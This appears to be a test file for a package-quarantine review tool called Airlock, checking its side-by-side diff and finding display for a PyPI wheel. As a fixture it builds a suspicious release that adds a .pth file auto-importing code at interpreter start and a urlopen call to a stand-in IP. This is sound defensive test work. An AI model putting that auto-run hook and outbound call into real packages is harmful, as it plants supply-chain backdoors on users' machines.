import { mkdir } from 'node:fs/promises';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ManualClock } from '../helpers/manual-clock.js';
import { startPypiUpstream, type PypiUpstream } from '../helpers/pypi-upstream.js';
import { buildWheel } from '../helpers/python-artifacts.js';
import { startAirlock, type StartedAirlock } from '../helpers/start-airlock.js';
import { launchChromium } from './browser.js';
import { adminToken, api, createToken } from './review-fixtures.js';

type Json = Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any -- response bodies in assertions

const hour = 3_600_000;
const clock = new ManualClock('2026-03-24T12:00:00Z');
let upstream: PypiUpstream;
let airlock: StartedAirlock;
let reviewer: string;

beforeAll(async () => {
  await mkdir('test-output', { recursive: true });
  upstream = await startPypiUpstream();
  upstream.add('Demo.Py', buildWheel({ name: 'Demo.Py', version: '1.0.0', files: { 'demo_py/core.py': 'def add(a, b):\n    return a + b\n' } }), {
    uploadedAt: new Date(clock.now().getTime() - 400 * hour),
  });
  upstream.add(
    'Demo.Py',
    buildWheel({
      name: 'Demo.Py',
      version: '1.1.0',
      files: {
        'demo_py/core.py': 'import urllib.request\n\ndef add(a, b):\n    urllib.request.urlopen("http://203.0.113.7/c")\n    return a + b\n',
        'demo_py_init.pth': 'import demo_py.core\n',
      },
    }),
    { uploadedAt: new Date(clock.now().getTime() - 80 * hour) },
  );
  // analysisHorizon 0: nothing is queued for analysis; the test records the findings itself.
  airlock = await startAirlock({
    clock,
    policy: 'cooldown: 72h\nanalysisHorizon: 0\n',
    env: { AIRLOCK_ADMIN_TOKEN: adminToken, AIRLOCK_PYPI_UPSTREAM: upstream.url, AIRLOCK_INDEX_TTL: '0' },
  });
  reviewer = await createToken(airlock.url, 'alice', 'reviewer');
  // pip asking for the project is how Airlock first sees its releases.
  expect((await fetch(new URL('pypi/simple/demo-py/', airlock.url))).status).toBe(200);
  const ctx = airlock.airlock.context;
  const release = (await ctx.store.getRelease('pypi', 'demo-py', '1.1.0'))!;
  await ctx.store.saveAnalysis(release.id, {
    baselineVersion: '1.0.0',
    analyzedAt: clock.now(),
    findings: [
      { kind: 'pth-exec-added', severity: 'critical', path: 'demo_py_init.pth', line: 1, message: 'a .pth file that imports code at every interpreter start' },
      { kind: 'network-code-added', severity: 'high', path: 'demo_py/core.py', line: 4, message: 'urllib.request in code that had no network access' },
    ],
  });
  ctx.quarantine.changed('pypi', 'demo-py');
}, 60_000);

afterAll(async () => {
  await airlock?.close();
  await upstream?.close();
});

describe('the finding file and the side-by-side diff against the baseline (PyPI wheels)', () => {
  it('reads the changed file out of both wheels and pairs the lines', async () => {
    const res = await api(airlock.url, 'api/v1/releases/pypi:demo-py@1.1.0/file?path=demo_py/core.py', { token: reviewer });
    expect(res.status, res.text).toBe(200);
    const body = res.body as Json;
    expect(body).toMatchObject({
      release: 'pypi:demo-py@1.1.0',
      baselineVersion: '1.0.0',
      candidate: { artifact: 'demo_py-1.1.0-py3-none-any.whl', entry: 'demo_py/core.py', binary: false },
      baseline: { artifact: 'demo_py-1.0.0-py3-none-any.whl', entry: 'demo_py/core.py' },
    });
    expect(body.rows).toEqual([
      { kind: 'added', left: null, right: 1 },
      { kind: 'added', left: null, right: 2 },
      { kind: 'same', left: 1, right: 3 },
      { kind: 'added', left: null, right: 4 },
      { kind: 'same', left: 2, right: 5 },
    ]);
  });

  it('shows a file the baseline did not have as all added', async () => {
    const res = await api(airlock.url, 'api/v1/releases/pypi:demo-py@1.1.0/file?path=demo_py_init.pth', { token: reviewer });
    expect(res.body).toMatchObject({ candidate: { text: 'import demo_py.core\n' }, baseline: null, rows: [{ kind: 'added', left: null, right: 1 }] });
  });

  it('answers with no candidate file for a path the release does not have', async () => {
    const res = await api(airlock.url, 'api/v1/releases/pypi:demo-py@1.1.0/file?path=demo_py/missing.py', { token: reviewer });
    expect(res.body).toMatchObject({ candidate: null, baseline: null, rows: null });
  });

  it('shows the code around the finding line, highlighted, and the diff on the release page', async () => {
    let browser: Browser | undefined;
    try {
      browser = await launchChromium();
      const page = await browser.newPage({ viewport: { width: 1400, height: 1000 } });
      await page.goto(airlock.url);
      await page.getByLabel('API token').fill(reviewer);
      await page.getByRole('button', { name: 'Sign in' }).click();
      await page.getByRole('link', { name: 'pypi:demo-py@1.1.0' }).click();
      const high = page.getByRole('region', { name: 'high findings' });
      const code = high.getByRole('table', { name: 'demo_py/core.py lines 1 to 5' });
      await code.waitFor();
      expect(await code.locator('tr.hit').textContent()).toBe('4    urllib.request.urlopen("http://203.0.113.7/c")');
      expect(await code.locator('tr.hit .tok-string').textContent()).toBe('"http://203.0.113.7/c"');
      // The diff against the baseline is one click away (the window above comes with the page).
      await high.getByRole('button', { name: 'Changes against the baseline' }).first().click();
      const diff = high.getByRole('table', { name: 'Side-by-side diff of demo_py/core.py: 1.0.0 against 1.1.0' });
      await diff.waitFor();
      expect(await diff.locator('td.add').allTextContents()).toEqual(['import urllib.request', '', '    urllib.request.urlopen("http://203.0.113.7/c")']);
      await page.screenshot({ path: 'test-output/review-release-pypi.png', fullPage: true });
    } finally {
      await browser?.close();
    }
  });
});
